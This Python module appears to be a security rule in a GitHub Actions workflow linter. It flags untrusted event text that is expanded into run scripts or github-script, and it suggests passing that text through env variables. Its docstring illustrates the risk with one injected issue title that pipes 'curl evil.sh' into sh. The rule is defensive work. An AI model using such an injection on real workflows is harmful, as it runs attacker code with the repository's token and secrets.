"""Untrusted event text expanded into a script. GitHub replaces every ``${{ }}`` in ``run:`` (and
in ``actions/github-script``'s ``script``) before the shell or node reads it, so a title, body,
comment, branch name or commit message written by whoever triggers the workflow becomes code:
an issue titled ``"; curl evil.sh | sh; "`` runs that command with the workflow's token and
secrets. Reported on the expression, also when it reads ``env.X`` and X is set from untrusted
text. Only values that reach the script count, and only fields the workflow's triggers can fill:
numbers, shas, booleans, comparisons, ``contains(...)``, matrix values, inputs and step outputs
are never reported.

Quick fix (applied by ``check --fix``): set an environment variable from the expression in the
step's ``env:`` and use ``"$VAR"`` (``process.env.VAR`` in github-script), which the shell
expands as data.

Bad::

    on: issues
    permissions:
      contents: read
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: |
              echo "New issue: ${{ github.event.issue.title }}"

Good::

    on: issues
    permissions:
      contents: read
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - run: |
              echo "New issue: $ISSUE_TITLE"
            env:
              ISSUE_TITLE: ${{ github.event.issue.title }}
"""

from __future__ import annotations

from collections.abc import Iterable

from wfspec.analysis.rules.base import Context, make_rule
from wfspec.findings import Finding, Related, Severity


def check(ctx: Context) -> Iterable[Finding]:
    from wfspec.dialects.github import security

    for inj in security.injections(ctx.workflow, ctx.doc.root, ctx.extra):
        where = '"run" script' if inj.kind == "run" else 'github-script "script"'
        src = inj.sources[0].path
        related: list[Related] = []
        if inj.via_env is not None:
            name = inj.via_env
            use = f'"${name}"' if inj.kind == "run" else f"process.env.{name}"
            message = (
                f'"env.{name}" holds untrusted input ("{src}") and is expanded into the {where} before it '
                f"runs, so its text can run as code; use {use} instead"
            )
            if inj.env_value is not None:
                related.append(Related(inj.env_value.span, f'"{name}" is set from "{src}" here'))
        else:
            name = security.env_name(src)
            use = f'"${name}"' if inj.kind == "run" else f"process.env.{name}"
            message = (
                f'"{src}" is untrusted input expanded into the {where} before it runs, so its text can '
                f'run as code; pass it through "env:" ({name}) and use {use}'
            )
        yield RULE.finding(
            inj.expression.span,
            message,
            related=related,
            data={
                "node": inj.step.node.id,
                "expression": inj.expression.text.strip(),
                "sources": [s.path for s in inj.sources],
                "kind": inj.kind,
                "env": name,
                "via_env": inj.via_env is not None,
            },
        )


RULE = make_rule(
    __name__,
    Severity.ERROR,
    "untrusted event text expanded into a run script or github-script",
    check,
    dialects=frozenset({"github"}),
)
